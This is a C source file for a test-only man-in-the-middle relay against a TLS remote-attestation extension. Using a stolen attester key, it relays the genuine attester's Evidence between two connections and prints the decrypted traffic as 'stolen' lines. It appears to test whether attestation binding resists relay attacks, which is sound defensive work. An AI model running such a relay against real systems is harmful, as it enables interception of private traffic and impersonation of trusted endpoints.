/* SPDX-License-Identifier: Apache-2.0
 *
 * The man in the middle. He holds the TLS key of a genuine attester, stolen,
 * and no attester of his own. He ends the victim's connection with that key,
 * has the genuine attester make Evidence on another one, and presents it.
 *
 *     relay --listen 127.0.0.1:0 --connect HOST:PORT --cert FILE --key FILE
 *           [--client-cert FILE --client-key FILE] [--groups LIST] [--once]
 *           [--record FOLDER]
 *
 * --connect is the genuine server, --cert and --key are its own. A client that
 * attests is relayed to the server as well, with --client-cert and
 * --client-key, the client's own. --groups sets the key exchange groups that he
 * takes, to make HelloRetryRequest happen on both legs. --once ends after one
 * connection; else he goes on until he is ended. --record keeps what he copied,
 * a file for each message.
 *
 * Lines on stdout: "listening HOST:PORT" first; for each connection "evidence
 * server|client N bytes", "front|back: finished" or "front|back: REASON", and
 * "stolen: TEXT" for what he read.
 *
 * He copies the extension remoteAttestation between his two connections as it
 * is, and so works against whatever binder the ends compute. This program
 * breaks the rules of TLS on purpose and lives only in the tests. It loads no
 * openssl.cnf: nothing hooks it.
 */
#include <getopt.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#include "net.h"

#define REMOTE_ATTESTATION 0xFF5B

struct options {
    const char *listen, *connect, *groups, *record;
    const char *cert, *key, *client_cert, *client_key;
    bool is_once;
};

/* What the extension held, message by message, in the order of a handshake. */
enum slot {
    CLIENT_HELLO,
    ENCRYPTED_EXTENSIONS,
    CERTIFICATE_REQUEST,
    SERVER_CERTIFICATE,
    CLIENT_CERTIFICATE,
    NUM_SLOTS
};

static const char *const slot_names[NUM_SLOTS] = {
    "client_hello", "encrypted_extensions", "certificate_request",
    "server_certificate", "client_certificate"};

struct seen {
    unsigned char *data;
    size_t len;
};

struct relay {
    const struct options *options;
    SSL *front; /* where he plays the server */
    SSL *back;  /* where he plays the client */
    struct seen seen[NUM_SLOTS];
    bool is_asked;      /* the server wants a client certificate */
    bool has_back_run;  /* so far as it goes without the client's answer */
    bool has_front_run; /* what the client had to say is known */
};

/* slot_of: a Certificate goes by the side that it comes from. */
static enum slot slot_of(unsigned context, bool from_server)
{
    if (context & SSL_EXT_CLIENT_HELLO)
        return CLIENT_HELLO;
    if (context & SSL_EXT_TLS1_3_ENCRYPTED_EXTENSIONS)
        return ENCRYPTED_EXTENSIONS;
    if (context & SSL_EXT_TLS1_3_CERTIFICATE_REQUEST)
        return CERTIFICATE_REQUEST;
    return from_server ? SERVER_CERTIFICATE : CLIENT_CERTIFICATE;
}

static int put(SSL *ssl, unsigned type, unsigned context,
               const unsigned char **out, size_t *out_len, X509 *x509,
               size_t entry, int *alert, void *arg)
{
    const struct relay *relay = SSL_get_app_data(ssl);
    const struct seen *seen =
        &relay->seen[slot_of(context, ssl == relay->front)];

    (void)type, (void)x509, (void)arg;
    *alert = SSL_AD_INTERNAL_ERROR;
    if (seen->data == NULL || entry != 0)
        return 0;
    *out = seen->data;
    *out_len = seen->len;
    return 1;
}

static bool record(const char *folder, enum slot slot, const struct seen *seen)
{
    char path[1024];
    FILE *out;
    bool is_well;

    if (folder == NULL)
        return true;
    (void)snprintf(path, sizeof(path), "%s/%s", folder, slot_names[slot]);
    out = fopen(path, "wb");
    is_well = out != NULL && fwrite(seen->data, 1, seen->len, out) == seen->len;
    return out != NULL && fclose(out) == 0 && is_well;
}

static int take(SSL *ssl, unsigned type, unsigned context,
                const unsigned char *in, size_t in_len, X509 *x509,
                size_t entry, int *alert, void *arg)
{
    struct relay *relay = SSL_get_app_data(ssl);
    enum slot slot = slot_of(context, ssl == relay->back);
    struct seen *seen = &relay->seen[slot];

    (void)type, (void)x509, (void)entry, (void)arg;
    *alert = SSL_AD_INTERNAL_ERROR;
    free(seen->data);
    seen->data = malloc(in_len + 1);
    if (seen->data == NULL)
        return 0;
    memcpy(seen->data, in, in_len);
    seen->len = in_len;
    if (slot == SERVER_CERTIFICATE || slot == CLIENT_CERTIFICATE)
        printf("evidence %s %zu bytes\n",
               slot == SERVER_CERTIFICATE ? "server" : "client", in_len);
    return record(relay->options->record, slot, seen);
}

static int accept_any(int is_good, X509_STORE_CTX *store)
{
    (void)is_good, (void)store;
    return 1;
}

/* Stops the front until the server's Evidence is there. */
static int wait_for_back(SSL *ssl, void *arg)
{
    struct relay *relay = SSL_get_app_data(ssl);

    (void)arg;
    if (!relay->has_back_run)
        return -1;
    if (relay->is_asked)
        SSL_set_verify(ssl, SSL_VERIFY_PEER, accept_any);
    return 1;
}

/* Stops the back until the client's Evidence is there. */
static int wait_for_front(SSL *ssl, void *arg)
{
    struct relay *relay = SSL_get_app_data(ssl);

    (void)arg;
    relay->is_asked = true;
    return relay->has_front_run ? 1 : -1;
}

static SSL_CTX *new_context(const SSL_METHOD *method, const char *cert,
                            const char *key, const char *groups,
                            int (*wait)(SSL *, void *))
{
    SSL_CTX *ctx = SSL_CTX_new(method);
    const unsigned contexts = SSL_EXT_TLS1_3_ONLY | SSL_EXT_CLIENT_HELLO |
                              SSL_EXT_TLS1_3_ENCRYPTED_EXTENSIONS |
                              SSL_EXT_TLS1_3_CERTIFICATE_REQUEST |
                              SSL_EXT_TLS1_3_CERTIFICATE;

    if (ctx == NULL ||
        !SSL_CTX_add_custom_ext(ctx, REMOTE_ATTESTATION, contexts, put, NULL,
                                NULL, take, NULL))
        return NULL;
    SSL_CTX_set_cert_cb(ctx, wait, NULL);
    SSL_CTX_set_session_cache_mode(ctx, SSL_SESS_CACHE_OFF);
    SSL_CTX_clear_mode(ctx, SSL_MODE_AUTO_RETRY); /* tickets are not data */
    if ((groups != NULL && !SSL_CTX_set1_groups_list(ctx, groups)) ||
        (cert != NULL &&
         (SSL_CTX_use_certificate_chain_file(ctx, cert) != 1 ||
          SSL_CTX_use_PrivateKey_file(ctx, key, SSL_FILETYPE_PEM) != 1)))
        return NULL;
    return ctx;
}

static void report(const char *leg, int error)
{
    unsigned long code = ERR_peek_error();
    const char *reason = code == 0 ? NULL : ERR_reason_error_string(code);

    if (error == SSL_ERROR_NONE)
        printf("%s: finished\n", leg);
    else
        printf("%s: %s\n", leg, reason == NULL ? "closed" : reason);
    ERR_clear_error();
}

/* true: finished, or waiting for the other leg */
static bool shake(SSL *ssl, const char *leg)
{
    int error = SSL_get_error(ssl, SSL_do_handshake(ssl));

    if (error == SSL_ERROR_WANT_X509_LOOKUP)
        return true;
    report(leg, error);
    return error == SSL_ERROR_NONE;
}

static bool start_back(struct relay *relay)
{
    const char *name =
        SSL_get_servername(relay->front, TLSEXT_NAMETYPE_host_name);

    relay->has_back_run = true;
    return SSL_set_fd(relay->back, net_connect(relay->options->connect)) &&
           (name == NULL || SSL_set_tlsext_host_name(relay->back, name)) &&
           shake(relay->back, "back");
}

static bool shake_both(struct relay *relay)
{
    if (!shake(relay->front, "front")) /* up to the ClientHello's end */
        return false;
    if (!start_back(relay))
        return false;
    while (!SSL_is_init_finished(relay->front))
        if (!shake(relay->front, "front"))
            return false;
    relay->has_front_run = true;
    return SSL_is_init_finished(relay->back) || shake(relay->back, "back");
}

static int line_len(const char *text, int len)
{
    int at = 0;

    while (at < len && text[at] >= ' ')
        at++;
    return at;
}

/* false: nothing more will come from this side */
static bool pass_on(SSL *from, SSL *to, const char *leg)
{
    char text[1024];
    int len = SSL_read(from, text, sizeof(text));

    if (len <= 0 && SSL_get_error(from, len) == SSL_ERROR_WANT_READ)
        return true;
    if (len <= 0) {
        report(leg, SSL_get_error(from, len));
        return false;
    }
    printf("stolen: %.*s\n", line_len(text, len), text);
    return SSL_write(to, text, len) == len;
}

static void pump(struct relay *relay)
{
    struct pollfd ready[2] = {{SSL_get_fd(relay->front), POLLIN, 0},
                              {SSL_get_fd(relay->back), POLLIN, 0}};

    do {
        fflush(stdout);
        if (!SSL_pending(relay->front) && !SSL_pending(relay->back) &&
            poll(ready, 2, 30000) <= 0)
            return;
        if ((ready[0].revents != 0 || SSL_pending(relay->front)) &&
            !pass_on(relay->front, relay->back, "front"))
            return;
    } while ((ready[1].revents == 0 && !SSL_pending(relay->back)) ||
             pass_on(relay->back, relay->front, "back"));
}

static void end_leg(SSL *ssl)
{
    int fd = SSL_get_fd(ssl);

    if (SSL_is_init_finished(ssl))
        SSL_shutdown(ssl);
    SSL_free(ssl);
    if (fd >= 0)
        close(fd);
}

static void serve(const struct options *options, SSL_CTX *front, SSL_CTX *back,
                  int fd)
{
    struct relay relay = {.options = options};

    relay.front = SSL_new(front);
    relay.back = SSL_new(back);
    SSL_set_app_data(relay.front, &relay);
    SSL_set_app_data(relay.back, &relay);
    SSL_set_accept_state(relay.front);
    SSL_set_connect_state(relay.back);
    SSL_set_fd(relay.front, fd);
    if (shake_both(&relay))
        pump(&relay);
    end_leg(relay.front);
    end_leg(relay.back);
    for (int i = 0; i < NUM_SLOTS; i++)
        free(relay.seen[i].data);
    fflush(stdout);
}

static bool read_options(int argc, char **argv, struct options *options)
{
    const struct option known[] = {
        {"listen", required_argument, NULL, 'l'},
        {"connect", required_argument, NULL, 'c'},
        {"cert", required_argument, NULL, 'e'},
        {"key", required_argument, NULL, 'k'},
        {"client-cert", required_argument, NULL, 'E'},
        {"client-key", required_argument, NULL, 'K'},
        {"groups", required_argument, NULL, 'g'},
        {"once", no_argument, NULL, 'o'},
        {"record", required_argument, NULL, 'r'},
        {NULL, 0, NULL, 0}};
    int key;

    *options = (struct options){.listen = "127.0.0.1:0"};
    while ((key = getopt_long(argc, argv, "", known, NULL)) != -1) {
        switch (key) {
        case 'l':
            options->listen = optarg;
            break;
        case 'c':
            options->connect = optarg;
            break;
        case 'e':
            options->cert = optarg;
            break;
        case 'k':
            options->key = optarg;
            break;
        case 'E':
            options->client_cert = optarg;
            break;
        case 'K':
            options->client_key = optarg;
            break;
        case 'g':
            options->groups = optarg;
            break;
        case 'o':
            options->is_once = true;
            break;
        case 'r':
            options->record = optarg;
            break;
        default:
            return false;
        }
    }
    return optind == argc && options->connect != NULL &&
           options->cert != NULL && options->key != NULL &&
           (options->client_cert == NULL) == (options->client_key == NULL);
}

int main(int argc, char **argv)
{
    struct options options;
    SSL_CTX *front, *back;
    int listener, fd;

    if (!read_options(argc, argv, &options)) {
        fprintf(stderr, "usage: relay --listen HOST:PORT --connect HOST:PORT "
                        "--cert FILE --key FILE\n       [--client-cert FILE "
                        "--client-key FILE] [--groups LIST] [--once] "
                        "[--record FOLDER]\n");
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    OPENSSL_init_crypto(OPENSSL_INIT_NO_LOAD_CONFIG, NULL);
    front = new_context(TLS_server_method(), options.cert, options.key,
                        options.groups, wait_for_back);
    back = new_context(TLS_client_method(), options.client_cert,
                       options.client_key, options.groups, wait_for_front);
    listener = front == NULL || back == NULL ? -1 : net_listen(options.listen);
    if (listener < 0) {
        ERR_print_errors_fp(stderr);
        return 1;
    }
    do {
        fd = net_accept(listener);
        if (fd >= 0)
            serve(&options, front, back, fd);
    } while (fd >= 0 && !options.is_once);
    close(listener);
    SSL_CTX_free(front);
    SSL_CTX_free(back);
    return fd >= 0 ? 0 : 1;
}
